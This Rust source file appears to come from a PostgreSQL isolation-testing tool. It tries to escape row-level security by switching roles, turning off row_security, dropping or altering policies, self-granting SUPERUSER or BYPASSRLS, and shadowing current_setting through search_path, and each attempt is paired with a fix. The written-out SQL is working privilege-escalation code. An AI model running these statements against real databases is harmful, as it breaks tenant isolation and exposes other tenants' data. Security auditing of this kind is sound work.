//! Becoming somebody whom the wall does not hold, and taking the wall away.

use super::{Scene, after_forgery, as_power};
use crate::{
    Attack, Layer, Log, Observation, Weight,
    postgres::{
        attacks::STORE_CONTROLS,
        ground::Ground,
        options::Adversary,
        sql::{ident, literal},
        stage::{Answer, Gone, Stage, Who},
        tenancy::Assume,
    },
};

pub(crate) static SWITCH: Attack = Attack {
    id: "postgres.role-switch",
    layer: Layer::Store,
    title: "become another role, then read",
    about: "SET ROLE to everything the application's role is a member of, to the table's owner and to \
            a superuser; RESET ROLE; SET SESSION AUTHORIZATION: what a role could be, an injected \
            statement can be.",
    weight: Weight::Identity,
    fix: "make the application's role a member of no role that owns tables, bypasses row security or \
          is another tenant's; FORCE ROW LEVEL SECURITY holds owners, too",
    references: &["T-05", "CWE-250", "CWE-269"],
    supports: STORE_CONTROLS,
};

pub(crate) static SECURITY_OFF: Attack = Attack {
    id: "postgres.row-security-off",
    layer: Layer::Store,
    title: "SET row_security = off, then read",
    about: "For a role that is held by policies it turns filtered rows into an error; for one that \
            bypasses them it makes no difference.",
    weight: Weight::Read,
    fix: "enable row level security on the table, FORCE it, and let the application's role be neither \
          its owner nor BYPASSRLS",
    references: &["T-05"],
    supports: STORE_CONTROLS,
};

pub(crate) static ALTER: Attack = Attack {
    id: "postgres.alter-wall",
    layer: Layer::Store,
    title: "take the wall down",
    about: "CREATE POLICY, DISABLE and NO FORCE ROW LEVEL SECURITY, OWNER TO: whoever owns a table \
            can undo every policy on it, FORCE or not.",
    weight: Weight::Identity,
    fix: "let a role own the tables that nobody logs in as at run time, and of which the application's \
          role is no member",
    references: &["T-05", "CWE-732"],
    supports: STORE_CONTROLS,
};

pub(crate) static POWERS: Attack = Attack {
    id: "postgres.role-powers",
    layer: Layer::Store,
    title: "give oneself more rights",
    about: "SUPERUSER, BYPASSRLS and CREATEROLE for the own role, the owner's membership, a new role, \
            triggers turned off by session_replication_role.",
    weight: Weight::Identity,
    fix: "take SUPERUSER, CREATEROLE, BYPASSRLS, REPLICATION and every ADMIN OPTION from the \
          application's role",
    references: &["T-05", "CWE-269"],
    supports: STORE_CONTROLS,
};

pub(crate) static SHADOW: Attack = Attack {
    id: "postgres.shadow",
    layer: Layer::Store,
    title: "put a function in front of the wall's",
    about: "A current_setting() of the attacker's own, in a schema it may create in, and a search_path \
            that finds it first: a wall whose function names nothing by its schema asks the attacker.",
    weight: Weight::Identity,
    fix: "revoke CREATE on every schema and on the database from the application's role and from \
          PUBLIC; give the wall's functions a fixed search_path, or names with their schema",
    references: &["T-05", "CWE-426", "CVE-2018-1058"],
    supports: STORE_CONTROLS,
};

const ALL: [&Attack; 5] = [&SWITCH, &SECURITY_OFF, &ALTER, &POWERS, &SHADOW];

/// All of them.
pub(crate) async fn attack<S: Stage>(
    stage: &mut S,
    scene: &Scene<'_>,
    log: &mut Log<'_>,
) -> Result<(), Gone> {
    if !scene.has_sql(stage, &ALL, log) {
        return Ok(());
    }
    switch(stage, scene, log).await?;
    let sql = format!("SET LOCAL row_security = off; {}", scene.read);
    let seen = stage.attempt(Who::Attacker, &sql).await?.as_attack();
    log.record(scene.trial(stage, &SECURITY_OFF, &sql).judge(seen, scene.control.clone()));
    let seen = stage.attempt(Who::Attacker, "SET LOCAL session_replication_role = replica").await?;
    let draft = scene.trial(stage, &POWERS, "SET LOCAL session_replication_role = replica");
    log.record(draft.judge(as_power(&seen), scene.control.clone()));
    if scene.ground.options.read_only {
        return Ok(());
    }
    let mut changes = changes(scene);
    // What the role itself may not, the owner may, and a member can become it.
    if !matches!(scene.tenancy.assume, Assume::Role(_)) {
        let (owner, table) = (ident(&scene.relation.owner), scene.relation.quoted());
        let sql = format!("SET LOCAL ROLE {owner}; ALTER TABLE {table} DISABLE ROW LEVEL SECURITY");
        changes.push((&ALTER, sql));
    }
    for (attack, sql) in changes {
        let answer = stage.attempt(Who::Attacker, &sql).await?;
        if matches!(&answer, Answer::Refused(no) if no.code == "42725") {
            continue;
        }
        let seen = as_power(&answer);
        log.record(scene.trial(stage, attack, &sql).judge(seen, scene.control.clone()));
    }
    shadow(stage, scene, log).await
}

async fn switch<S: Stage>(stage: &mut S, scene: &Scene<'_>, log: &mut Log<'_>) -> Result<(), Gone> {
    if let Assume::Role(role) = &scene.tenancy.assume {
        let why = format!(
            "this connection's own role may be more than {role}, and could go back to it: connect as the application's role to see what that can become"
        );
        log.record(scene.trial(stage, &SWITCH, "SET ROLE …").skip(why));
        return Ok(());
    }
    let mut ways: Vec<String> = Vec::new();
    if let Answer::Done(done) = stage.attempt(Who::Attacker, OTHERS).await? {
        for name in done.rows.iter().filter_map(|row| row.first()?.as_deref()) {
            ways.push(format!("SET LOCAL ROLE {}", ident(name)));
        }
    }
    let owner = &scene.relation.owner;
    ways.push(format!("SELECT pg_catalog.set_config('role', {}, true)", literal(owner)));
    ways.extend(["SET ROLE NONE", "RESET ROLE"].map(str::to_owned));
    // What a superuser's connection switched to may switch on: that is our doing, not the role's.
    if scene.tenancy.assume == Assume::Already {
        ways.push(format!("SET LOCAL SESSION AUTHORIZATION {}", ident(owner)));
        ways.push("RESET SESSION AUTHORIZATION".to_owned());
    }
    for way in ways {
        let sql = format!("{way}; {}", scene.read);
        let answer = stage.attempt(Who::Attacker, &sql).await?;
        // A role without rights on the table, and one whose context says nothing, see nothing.
        let seen = after_forgery(&answer);
        log.record(scene.trial(stage, &SWITCH, &sql).judge(seen, scene.control.clone()));
    }
    Ok(())
}

/// The roles a session can become, and one superuser it should not.
const OTHERS: &str = "
    (SELECT rolname FROM pg_catalog.pg_roles
      WHERE pg_catalog.pg_has_role(session_user, oid, 'MEMBER') AND rolname <> session_user
      ORDER BY rolsuper DESC, rolbypassrls DESC, rolname LIMIT 12)
    UNION
    (SELECT rolname FROM pg_catalog.pg_roles WHERE rolsuper AND rolname <> session_user LIMIT 1)";

/// A role may change its own defaults and its password, and nothing in PostgreSQL forbids it: that
/// is no leak, and worth knowing.
pub(crate) async fn note_own_defaults<S: Stage>(
    stage: &mut S,
    ground: &Ground,
    log: &mut Log<'_>,
) -> Result<(), Gone> {
    let options = &ground.options;
    if options.read_only || options.adversary != Adversary::SqlInjection {
        return Ok(());
    }
    let sql = "ALTER ROLE CURRENT_USER SET search_path = 'partywall_left'";
    if let Answer::Done(_) = stage.attempt(Who::Attacker, sql).await? {
        let text = "the application's role may change its own defaults and its password with ALTER ROLE \
                    CURRENT_USER, beyond DISCARD ALL and the connection: set what matters in the start-up \
                    options of every connection, and log in with certificates";
        log.note("role", text);
    }
    Ok(())
}

/// What only an owner, or an administrator, can do.
fn changes(scene: &Scene<'_>) -> Vec<(&'static Attack, String)> {
    let table = scene.relation.quoted();
    let owner = ident(&scene.relation.owner);
    let alter = [
        format!("CREATE POLICY partywall_hole ON {table} USING (true)"),
        format!("ALTER TABLE {table} DISABLE ROW LEVEL SECURITY"),
        format!("ALTER TABLE {table} NO FORCE ROW LEVEL SECURITY"),
        format!("ALTER TABLE {table} OWNER TO CURRENT_USER"),
        format!("CREATE RULE partywall_hole AS ON INSERT TO {table} DO ALSO SELECT 1"),
    ];
    let powers = [
        "ALTER ROLE CURRENT_USER SUPERUSER".to_owned(),
        "ALTER ROLE CURRENT_USER BYPASSRLS".to_owned(),
        "ALTER ROLE CURRENT_USER CREATEROLE".to_owned(),
        "ALTER ROLE CURRENT_USER REPLICATION".to_owned(),
        format!("GRANT {owner} TO CURRENT_USER"),
        "CREATE ROLE partywall_more".to_owned(),
    ];
    // By its name alone: where several functions have it, it is none of theirs.
    let functions = scene.ground.policies.functions_of(scene.relation.oid);
    let functions = functions.iter().filter_map(|name| {
        let (schema, name) = name.split_once('.')?;
        Some(format!("ALTER FUNCTION {}.{} COST 1", ident(schema), ident(name)))
    });
    let alter = alter.into_iter().chain(functions).map(|sql| (&ALTER, sql));
    alter.chain(powers.into_iter().map(|sql| (&POWERS, sql))).collect()
}

async fn shadow<S: Stage>(stage: &mut S, scene: &Scene<'_>, log: &mut Log<'_>) -> Result<(), Gone> {
    let settings = scene.settings_of(scene.ground.id(Who::Victim));
    let mut cases: String = settings
        .iter()
        .map(|(name, value)| format!("WHEN $1 = {} THEN {} ", literal(name), literal(value)))
        .collect();
    if cases.is_empty() {
        cases = "WHEN false THEN '' ".to_owned();
    }
    let body = format!("SELECT CASE {cases}ELSE pg_catalog.current_setting($1, true) END");
    let places = match stage.attempt(Who::Attacker, MAY_CREATE_IN).await? {
        Answer::Done(done) => {
            done.rows.iter().filter_map(|row| row.first()?.clone()).collect::<Vec<_>>()
        }
        Answer::Refused(_) => Vec::new(),
    };
    // With no schema to create in, a schema of its own is what remains to be tried.
    let new = "partywall_shadow".to_owned();
    let (schemas, make) = if places.is_empty() { (vec![new], true) } else { (places, false) };
    for schema in schemas {
        let (quoted, body) = (ident(&schema), literal(&body));
        let sql = format!(
            "{}CREATE FUNCTION {quoted}.current_setting(text) RETURNS text LANGUAGE sql AS {body}; \
             CREATE FUNCTION {quoted}.current_setting(text, boolean) RETURNS text LANGUAGE sql AS {body}; \
             SET LOCAL search_path = {quoted}, pg_catalog; {}",
            if make { format!("CREATE SCHEMA {quoted}; ") } else { String::new() },
            scene.read
        );
        let seen = match stage.attempt(Who::Attacker, &sql).await? {
            Answer::Refused(no) if no.code == "42723" => Observation::skipped(no.to_string()),
            answer => after_forgery(&answer),
        };
        log.record(scene.trial(stage, &SHADOW, &sql).judge(seen, scene.control.clone()));
    }
    Ok(())
}

const MAY_CREATE_IN: &str = "
    SELECT nspname FROM pg_catalog.pg_namespace
     WHERE nspname !~ '^pg_' AND nspname <> 'information_schema'
       AND pg_catalog.has_schema_privilege(oid, 'CREATE') ORDER BY nspname LIMIT 3";
